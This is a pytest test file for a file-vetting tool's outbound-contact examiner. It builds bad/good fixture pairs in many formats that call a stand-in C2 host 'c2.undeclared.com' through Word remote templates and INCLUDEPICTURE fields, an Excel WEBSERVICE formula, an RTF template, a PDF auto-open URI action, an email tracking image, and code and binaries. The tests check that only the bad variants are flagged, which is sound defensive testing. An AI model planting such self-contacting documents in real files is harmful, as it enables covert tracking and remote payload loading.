"""Deliveries of many kinds through intake, the outbound examiner in its worker, and judgement."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from pikepdf import Array, Dictionary, Name, String

from gate.examine.isolated import Host, Hosted, IsolatedExaminer
from gate.intake.intake import InputArtifact
from gate.limits import Limits
from gate.models import Finding, Item
from gate.pipeline import examine
from gate.policy import Policy, SigningState, judge
from tests.conftest import zipped
from tests.examine.outbound.documents_kit import action, annotation, open_document, pdf, relationship, sheet, word
from tests.examine.outbound.programs_kit import (
    assembly,
    c_program,
    c_program_without_calls,
    go_program,
    java_class,
)

NOON = datetime(2026, 11, 23, 3, tzinfo=UTC)
HOST = "c2.undeclared.com"
U = f"https://{HOST}/a"
NAMED = "http://www.w3.org/2000/svg"


def opened(document_action: Dictionary) -> bytes:
    def change(document: object, _page: Dictionary) -> None:
        getattr(document, "Root").OpenAction = document_action  # noqa: B009  # pikepdf gives keys as attributes

    return pdf(change)


def shown(document: object, page: Dictionary) -> None:
    getattr(document, "Root").OpenAction = Array([page, Name.Fit])  # noqa: B009  # pikepdf gives keys as attributes
    page.Annots = annotation(action("URI", URI=String(U)))


def mail(body: str) -> bytes:
    return (
        "From: a@example.jp\nTo: b@example.jp\nSubject: s\nDate: Mon, 23 Nov 2026 12:00:00 +0900\nMIME-Version: 1.0\n"
        f"Content-Type: text/html; charset=utf-8\n\n<html><body>{body}</body></html>\n"
    ).encode()


def office(part: str, content: str) -> bytes:
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped({"[Content_Types].xml": types.encode(), part: content.encode()})


# Name, contacting, its twin, finding, place: the item below the file, and what `via` begins with.
Case = tuple[str, Callable[[Path], bytes], Callable[[Path], bytes], str, str, str]
CASES: dict[str, Case] = {
    "word": (
        "a.docx",
        lambda _: office("word/_rels/settings.xml.rels", relationship("attachedTemplate", U)),
        lambda _: office("word/_rels/document.xml.rels", relationship("hyperlink", U)),
        "outbound/undeclared",
        "!/word/_rels/settings.xml.rels",
        "relationship attachedTemplate",
    ),
    "word field": (
        "a.docx",
        lambda _: office("word/document.xml", word(f"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"{U}\" '/></w:p>")),
        lambda _: office("word/document.xml", word(f"<w:p><w:fldSimple w:instr=' HYPERLINK \"{U}\" '/></w:p>")),
        "outbound/undeclared",
        "!/word/document.xml",
        "field INCLUDEPICTURE",
    ),
    "excel": (
        "a.xlsx",
        lambda _: office("xl/worksheets/sheet1.xml", sheet(f'WEBSERVICE("{U}")')),
        lambda _: office("xl/worksheets/sheet1.xml", sheet(f'HYPERLINK("{U}")')),
        "outbound/undeclared",
        "!/xl/worksheets/sheet1.xml",
        "formula WEBSERVICE",
    ),
    "open document": (
        "a.odt",
        lambda _: zipped({"content.xml": open_document(f'<draw:image xlink:href="{U}"/>').encode()}),
        lambda _: zipped({"content.xml": open_document('<draw:image xlink:href="Pictures/a.png"/>').encode()}),
        "outbound/undeclared",
        "!/content.xml",
        "image[xlink:href]",
    ),
    "rtf": (
        "a.rtf",
        lambda _: rf"{{\rtf1{{\*\template {U}}}text}}".encode(),
        lambda _: rb"{\rtf1{\*\template C:\\t.dotm}text}",
        "outbound/undeclared",
        "",
        "\\template",
    ),
    "pdf": (
        "a.pdf",
        lambda _: opened(action("URI", URI=String(U))),
        lambda _: pdf(shown),
        "outbound/undeclared",
        "",
        "pdf object ",
    ),
    "mail": (
        "a.eml",
        lambda _: mail(f'<img src="{U}">'),
        lambda _: mail('<img src="cid:1">'),
        "outbound/undeclared",
        "!/",
        "img[src]",
    ),
    "svg": (
        "a.svg",
        lambda _: f'<svg xmlns="{NAMED}"><image href="{U}"/></svg>'.encode(),
        lambda _: f'<svg xmlns="{NAMED}"><image href="a.png"/></svg>'.encode(),
        "outbound/undeclared",
        "",
        "image[href]",
    ),
    "python": (
        "a.py",
        lambda _: f"import requests\n\nH = '{HOST}'\nrequests.get(f'https://{{H}}/a')\n".encode(),
        lambda _: b"import json\n\nprint(json.dumps({}).get('name'))\n",
        "outbound/code",
        "",
        "requests.get",
    ),
    "java": (
        "Main.class",
        lambda folder: java_class(folder, f'new java.net.URL("{U}").openStream()'),
        lambda folder: java_class(folder, '"com.example.app".length()'),
        "outbound/string",
        "",
        "class constant #",
    ),
    ".net": (
        "a.dll",
        lambda _: assembly(["text", U], ["HttpClient"]),
        lambda _: assembly(["text", "System.Text.Json"], ["HttpClient"]),
        "outbound/string",
        "",
        ".NET user string 0x70",
    ),
    "go": (
        "server",
        lambda _: go_program(["unexpected", U, "https://"]),
        lambda _: go_program(["unexpected", "https://", "main.go"]),
        "outbound/string",
        "",
        "elf at 0x",
    ),
    "c": (
        "client",
        lambda folder: c_program(folder, HOST),
        lambda folder: c_program_without_calls(folder, "main.c"),
        "outbound/string",
        "",
        "elf at 0x",
    ),
}
_COMPILERS = {"java": "javac", "c": "cc"}
CASES = {name: case for name, case in CASES.items() if shutil.which(_COMPILERS.get(name, "sh"))}


def applies(_item: Item) -> bool:
    return True


@pytest.fixture(scope="module")
def findings(tmp_path_factory: pytest.TempPathFactory) -> list[Finding]:
    """Return the findings of one run over all cases: ``bad-<number>-…`` contact, ``good-<number>-…`` do not."""
    folder = tmp_path_factory.mktemp("undeclared")
    delivery = folder / "delivery"
    delivery.mkdir()
    for number, (name, bad, good, *_) in enumerate(CASES.values()):
        for kind, make in (("bad", bad), ("good", good)):
            place = delivery / f"{kind}-{number}"
            place.mkdir()
            work = folder / f"work-{kind}-{number}"
            work.mkdir()
            (place / name).write_bytes(make(work))
    hosted = Hosted(
        "outbound", "gate.examine.outbound.examiner:OutboundExaminer", {}, frozenset({"content", "name"}), applies
    )
    host = Host([hosted], workers=1, item_seconds=60)
    artifact = InputArtifact(delivery.resolve(), "delivery")
    seen = examine([artifact], [IsolatedExaminer(host, hosted)], Limits(), clock=lambda: NOON)
    signing = SigningState(intended=False, ready=())
    judgement = judge(seen, Policy(), policy_sha256="0" * 64, today=date(2026, 11, 23), signing=signing)
    assert judgement.verdict == "rejected"
    return [finding for finding in judgement.findings if finding.id.startswith(("outbound/", "gap/outbound"))]


@pytest.mark.parametrize("name", CASES)
def test_undeclared_contacts_are_found_in_their_place(findings: list[Finding], name: str) -> None:
    number = list(CASES).index(name)
    file, _, _, finding_id, below, via = CASES[name]
    path = f"delivery/bad-{number}/{file}"
    found = [each for each in findings if each.path.startswith(path) and each.id == finding_id]
    assert found, [(each.id, each.path, each.args) for each in findings if each.path.startswith(path)]
    assert all(each.path.startswith(path + below) for each in found)
    assert {each.args["host"] for each in found} == {HOST}
    assert all(str(each.args["via"]).startswith(via) for each in found)
    assert all(HOST in each.message for each in found)


@pytest.mark.parametrize("name", CASES)
def test_twins_have_nothing_open(findings: list[Finding], name: str) -> None:
    path = f"delivery/good-{list(CASES).index(name)}/"
    assert [each.message for each in findings if each.path.startswith(path) and each.severity != "note"] == []
